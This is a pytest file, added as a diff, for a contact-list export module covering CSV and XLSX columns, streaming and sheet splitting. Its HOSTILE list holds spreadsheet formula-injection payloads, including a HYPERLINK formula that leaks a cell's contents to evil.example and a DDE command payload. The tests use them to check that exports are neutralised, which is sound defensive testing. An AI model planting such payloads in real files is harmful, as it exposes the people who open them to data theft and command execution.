@@ -1,0 +1,115 @@
+"""Exports: the columns of the list page, formula neutralisation, streaming."""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import AsyncIterator
+
+import openpyxl
+import pytest
+
+from dnc import exports
+from dnc.entries import Entry, EntryKey, Source
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "   =1+1",
+    "＝1+1",
+]
+
+
+def entry(i: int, sender: str | None = "acme", channel: str | None = "SMS") -> Entry:
+    return Entry(
+        EntryKey("acme", f"4477009{i:05d}", channel, sender),
+        Source.IMPORT,
+        1795671087123 - i,
+        {"kind": "import", "import_id": "imp-1"},
+    )
+
+
+async def batches(entries: list[Entry], size: int = 3) -> AsyncIterator[list[Entry]]:
+    """A stand-in for ListView.stream: newest first, a chunk at a time."""
+    for start in range(0, len(entries), size):
+        yield entries[start : start + size]
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_formula_starts_are_neutralised(value: str) -> None:
+    assert exports.neutralise(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", ["acme", "441234567890", "jane@example.com", "a=b", "", " x"])
+def test_ordinary_values_are_untouched(value: str) -> None:
+    assert exports.neutralise(value) == value
+
+
+def test_row_has_the_columns_of_the_page() -> None:
+    assert exports.row_of(entry(1, sender=None, channel=None)) == (
+        "447700900001",
+        "",
+        "IMPORT",
+        "All channels",
+        "acme",
+        "2026-11-26T05:31:27.122Z",
+    )
+
+
+async def _csv(entries: list[Entry], *, bom: bool = True) -> bytes:
+    return b"".join([chunk async for chunk in exports.csv_stream(batches(entries), bom=bom)])
+
+
+async def test_csv_stream() -> None:
+    hostile = [entry(i, sender=s) for i, s in enumerate(HOSTILE)]
+    data = await _csv([entry(100), *hostile])
+    assert data.startswith(
+        b"\xef\xbb\xbfContact information,Sender,Source,Channel,Account,Added\r\n"
+    )
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+    assert rows[1] == ["447700900100", "acme", "IMPORT", "SMS", "acme", "2026-11-26T05:31:27.023Z"]
+    assert [r[1] for r in rows[2:]] == ["'" + s for s in HOSTILE]
+    assert not (await _csv([], bom=False)).startswith(b"\xef\xbb\xbf")
+
+
+async def test_csv_stream_yields_per_batch() -> None:
+    chunks = [c async for c in exports.csv_stream(batches([entry(i) for i in range(7)], 3))]
+    assert len(chunks) == 1 + 3  # header, then one chunk per batch
+
+
+async def test_xlsx_file(tmp_path: object) -> None:
+    hostile = [entry(i, sender=s) for i, s in enumerate(HOSTILE)]
+    handle = await exports.xlsx_file(batches([entry(100, channel=None), *hostile]))
+    data = b"".join([c async for c in exports.file_stream(handle)])
+    assert handle.closed
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    sheet = book["Entries"]
+    rows = [[c.value for c in row] for row in sheet.iter_rows()]
+    assert rows[0] == list(exports.HEADER)
+    assert rows[1][3] == "All channels"
+    for row, sender in zip(rows[2:], HOSTILE, strict=True):
+        # (openpyxl reads xlsxwriter's escaped CR back as the literal "_x000D_")
+        assert row[1] == "'" + sender.replace("\r", "_x000D_")
+    # Every cell is a string; none became a formula.
+    assert all(c.data_type == "s" for row in sheet.iter_rows() for c in row if c.value)
+
+
+async def test_xlsx_starts_a_new_sheet_when_one_is_full(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(exports, "XLSX_MAX_ROWS", 4)  # header + 3 rows per sheet
+    handle = await exports.xlsx_file(batches([entry(i) for i in range(7)], 2))
+    data = b"".join([c async for c in exports.file_stream(handle)])
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    assert book.sheetnames == ["Entries", "Entries 2", "Entries 3"]
+    counts = [book[name].max_row - 1 for name in book.sheetnames]
+    assert counts == [3, 3, 1]
+
+
+async def test_empty_xlsx_has_its_header() -> None:
+    handle = await exports.xlsx_file(batches([]))
+    data = b"".join([c async for c in exports.file_stream(handle)])
+    sheet = openpyxl.load_workbook(io.BytesIO(data))["Entries"]
+    assert [c.value for c in next(sheet.iter_rows())] == list(exports.HEADER)
